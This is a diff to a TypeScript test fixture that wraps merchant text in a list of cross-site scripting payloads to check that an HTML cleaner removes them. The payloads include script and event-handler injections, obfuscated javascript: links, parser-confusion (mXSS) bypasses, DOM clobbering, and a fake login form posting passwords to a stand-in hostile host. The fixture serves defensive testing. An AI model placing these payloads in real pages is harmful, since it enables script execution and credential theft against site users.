@@ -1,38 +1,51 @@
-/** What every payload does if anything lets it run; tests look for it. */
-const RUN = 'window.__pwned=true;parent.__pwned=true'
-const FAR = 'https://evil.example'
+import type { Text } from './text.ts'
 
-const before = [
+/** What a script does that has run after all; nothing of this may ever be set. */
+const RUN = "window.hostile = 'ran'"
+
+/** One line each: a way in that a page has been broken by. */
+const tricks: readonly string[] = [
   `<script>${RUN}</script>`,
-  `<img src="x" onerror="${RUN}" alt="">`,
-  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x" dur="1s"/><script>${RUN}</script></svg>`,
-  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
-  `<iframe src="javascript:${RUN}"></iframe>`,
-  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
+  '<script src="https://hostile.example/run.js"></script>',
+  `<img src="https://hostile.example/pixel.gif" onerror="${RUN}" onload="${RUN}" alt="">`,
+  `<img src=x onerror=${RUN.replaceAll(' ', '')}>`,
+  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"></animate><script>${RUN}</script></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
+  `<p onclick="${RUN}" onmouseover="${RUN}">Hover over me</p>`,
   `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
-  `<video autoplay onloadstart="${RUN}"><source src="x" onerror="${RUN}"></video>`,
-  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
-  // A cleaner that parses only once is fooled by these two.
-  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></p></noscript>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
-  '</mglyph></table></mtext></math>',
-].join('')
+  `<video autoplay onplay="${RUN}"><source onerror="${RUN}"></video>`,
+  `<a href="javascript:${RUN}">A prize</a>`,
+  `<a href="&#106;ava&#9;script:${RUN}">Another prize</a>`,
+  `<a href=" JaVaScRiPt:${RUN}">A third prize</a>`,
+  '<a href="data:text/html,<script>alert(1)</script>">A page of data</a>',
+  '<a href="https://hostile.example/" target="_blank">Out, and the opener along</a>',
+  '<a href="//hostile.example/">Out, without a scheme</a>',
+  '<form action="https://hostile.example/steal" method="post"><input name="password" type="password" autofocus><button>Log in again</button></form>',
+  '<form name="portalMock"><input name="attributes"><input name="href"></form>',
+  '<iframe src="https://hostile.example/" srcdoc="<script>parent.hostile = 1</script>"></iframe>',
+  '<object data="https://hostile.example/x.swf"></object><embed src="https://hostile.example/x.swf">',
+  '<style>body { display: none } * { background: url(https://hostile.example/leak) }</style>',
+  '<link rel="stylesheet" href="https://hostile.example/style.css">',
+  '<meta http-equiv="refresh" content="0;url=https://hostile.example/"><base href="https://hostile.example/">',
+  '<div id="root" class="boot toast dialog" style="position: fixed; inset: 0; z-index: 99999; background: url(https://hostile.example/cover.png)">Over everything</div>',
+  '<a id="getElementById" name="body">Clobbered</a><img name="cookie" alt="">',
+  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN.replaceAll(' ', '')}>"></p></noscript>`,
+  '<p>Unclosed <b>bold <i>and <table><td>a stray cell',
+  '<!-- <img src="--><img src=x onerror=window.hostile=1//">',
+]
 
-const after = [
-  `<p><a href="javascript:${RUN}">Claim 1</a> <a href=" java\nscript:${RUN}">Claim 2</a>`,
-  ` <a href="data:text/html,<script>${RUN}</script>">Claim 3</a>`,
-  ` <a href="${FAR}/claim" target="_blank" rel="opener">Claim 4</a> <a href="//evil.example">Claim 5</a></p>`,
-  `<form action="${FAR}/steal" method="post"><input name="password" type="password"><button formaction="javascript:${RUN}">Log in</button></form>`,
-  `<style>@import url("${FAR}/a.css");body{display:none!important}</style>`,
-  `<link rel="stylesheet" href="${FAR}/b.css"><base href="${FAR}/"><meta http-equiv="refresh" content="0;url=${FAR}/">`,
-  `<p style="position:fixed;inset:0;z-index:99999;background:url(${FAR}/c.png)">Over everything</p>`,
-  `<img src="${FAR}/pixel.gif" alt=""><img srcset="${FAR}/pixel2.gif 1x" alt="">`,
-  // Names that the page itself uses: an element must not take their place, nor wear its clothes.
-  '<div id="root" class="dialog button primary">Root</div><a id="early" name="early" href="x"></a>',
-  '<form id="portalMock"><input name="getElementById"><input name="attributes"></form>',
-  '<img name="cookie" alt=""><img id="__proto__" name="body" alt="">',
-  `<p onclick="${RUN}" onmouseover="${RUN}" tabindex="0" accesskey="x" contenteditable>Touch me</p>`,
-].join('')
+/** A text of the merchant with every trick behind it; in hostile worlds only. */
+export const hostileHtml = (html: string): string => `${html}${tricks.join('')}`
 
-/** D-049: a text among everything a cleaner must take away. `window.__pwned` stays undefined if it does. */
-export const hostileHtml = (text: string): string => `${before}<p>${text}</p>${after}`
+/** A title is plain text: what looks like markup must be shown as it is. */
+export const hostileTitle = (title: string): string =>
+  `${title} <img src=x onerror="${RUN}"><b>&amp;</b>`
+
+/** The same texts, hostile in both languages. */
+export const hostileText = <T extends { readonly title: Text; readonly content: Text }>(
+  text: T,
+): T => ({
+  ...text,
+  title: { en: hostileTitle(text.title.en), bn: hostileTitle(text.title.bn) },
+  content: { en: hostileHtml(text.content.en), bn: hostileHtml(text.content.bn) },
+})
